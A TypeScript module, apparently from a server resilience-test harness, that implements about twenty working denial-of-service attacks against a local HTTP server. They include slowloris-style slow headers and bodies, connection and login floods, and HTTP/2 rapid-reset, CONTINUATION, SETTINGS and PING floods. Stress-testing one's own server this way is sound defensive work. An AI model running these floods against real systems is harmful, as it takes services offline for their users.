// Ways to keep a server busy without being a client: each goes on until it is told to stop.
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import * as frames from './frames.ts'

export interface Target { port: number, secure: boolean }

/** What came of it: connections that were made, and those that the server closed. */
export interface Harm { made: number, closed: number, answered: number }

export type Attack = (target: Target, harm: Harm) => () => void

/** Not the address of the ordinary client. */
const ENEMY = '127.0.0.2'

function open({ port, secure }: Target, harm: Harm, alpn = 'http/1.1'): Socket {
  const raw = connect({ port, host: '127.0.0.1', localAddress: ENEMY })
  const socket = secure
    ? connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: [alpn] }) : raw
  harm.made += 1
  socket.on('error', () => {}).on('close', () => { harm.closed += 1 })
  raw.on('error', () => {})
  return socket
}

/** `count` connections at a time; one that is closed is replaced a moment later. */
function many(count: number, begin: (target: Target, harm: Harm) => Socket): Attack {
  return (target, harm) => {
    let over = false
    const sockets = new Set<Socket>()
    const one = () => {
      if (over) return
      const socket = begin(target, harm)
      sockets.add(socket)
      socket.once('close', () => {
        sockets.delete(socket)
        setTimeout(one, 100)
      })
    }
    for (let at = 0; at < count; at += 1) setTimeout(one, at)
    return () => {
      over = true
      for (const socket of sockets) socket.destroy()
    }
  }
}

/** Says `first`, then `more` again and again, and reads what comes unless told not to. */
const saying = (first: string | Buffer, more: () => string | Buffer, every: number, reads = true) =>
  (target: Target, harm: Harm, alpn?: string): Socket => {
    const socket = open(target, harm, alpn)
    socket.write(first)
    const timer = setInterval(() => { if (socket.writableLength < 1_000_000) socket.write(more()) }, every)
    socket.once('close', () => clearInterval(timer))
    if (reads) socket.on('data', () => { harm.answered += 1 })
    return socket
  }

const lines = (...all: string[]) => `${all.join('\r\n')}\r\n`
const login = (...more: string[]) => lines('POST /v2/dashboard/merchants/login HTTP/1.1', 'Host: a',
  'Content-Type: application/json', ...more, '')
const get = (path: string) => lines(`GET ${path} HTTP/1.1`, 'Host: a', '')
const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
const document = get('/openapi.json')
const much = 'x'.repeat(60_000)
const wrong = '{"email":"nobody@adire.example","password":"Indigo-Loom-99"}'

/** Asks again as soon as it is answered. */
const asking = (request: string) => (target: Target, harm: Harm): Socket => {
  const socket = open(target, harm)
  socket.write(request)
  socket.on('data', () => {
    harm.answered += 1
    socket.write(request)
  })
  return socket
}

const http2 = (first: Buffer, more: () => Buffer, every: number, reads = true) =>
  (target: Target, harm: Harm) =>
    saying(Buffer.concat([frames.hello, first]), more, every, reads)(target, harm, 'h2')

const nothing = () => Buffer.alloc(0)
let stream = 1
const newStream = () => {
  stream = stream > 2 ** 30 ? 1 : stream + 2
  return stream
}
const openedAndReset = () => {
  const id = newStream()
  return Buffer.concat([frames.headers(id), frames.reset(id)])
}
const batch = (count: number, make: () => Buffer) => Buffer.concat(Array.from({ length: count }, make))

export const attacks: Record<string, Attack> = {
  'idle connections': many(2_000, (target, harm) => open(target, harm).resume()),
  'headers a letter at a time': many(400, saying('GET / HTTP/1.1\r\nX-A: ', () => 'a', 500)),
  'bodies a letter at a time': many(400, saying(login('Content-Length: 60000'), () => ' ', 500)),
  'answers that nobody reads': many(200, saying(document.repeat(4), () => '', 1_000, false)),
  'many requests at once on a connection': many(100, saying(document.repeat(500), () => document, 50, false)),
  'bodies without end': many(40, saying(login('Transfer-Encoding: chunked'), () => chunk(much), 5)),
  'announced bodies of gigabytes': many(40, saying(login('Content-Length: 9999999999'), () => much, 5)),
  'headers without end': many(40, saying('GET / HTTP/1.1\r\n', () => `X-A: ${much.slice(0, 2_000)}\r\n`, 2)),
  'connections opened and closed': many(100, (target, harm) => {
    const socket = open(target, harm)
    socket.once(target.secure ? 'secureConnect' : 'connect', () => socket.destroy())
    return socket
  }),
  'requests as fast as they are answered': many(60, asking(get('/v2/dashboard/merchants'))),
  'log-ins as fast as they are answered': many(60, asking(login(`Content-Length: ${wrong.length}`) + wrong)),
  'packed bodies': many(40,
    asking(login('Content-Encoding: gzip', 'Content-Length: 4') + '\x1f\x8b\x08\x00')),
  'streams opened and reset': many(20, http2(nothing(),
    () => batch(200, openedAndReset), 5)),
  'continuations without end': many(20, http2(frames.openHeaders(1),
    () => batch(20, () => frames.continuation(1)), 5)),
  'settings without end': many(20, http2(nothing(), () => batch(500, frames.settings), 5)),
  'pings without end': many(20, http2(nothing(), () => batch(500, frames.ping), 5)),
  'windows closed': many(100, http2(frames.noWindow, () => frames.headers(newStream()), 20)),
  'streams left open': many(50, http2(nothing(), () => frames.openStream(newStream()), 20)),
  'priorities without end': many(20, http2(nothing(),
    () => batch(500, () => frames.priority(newStream())), 5)),
  'empty data without end': many(20, http2(frames.openStream(1),
    () => batch(500, () => frames.emptyData(1)), 5)),
}
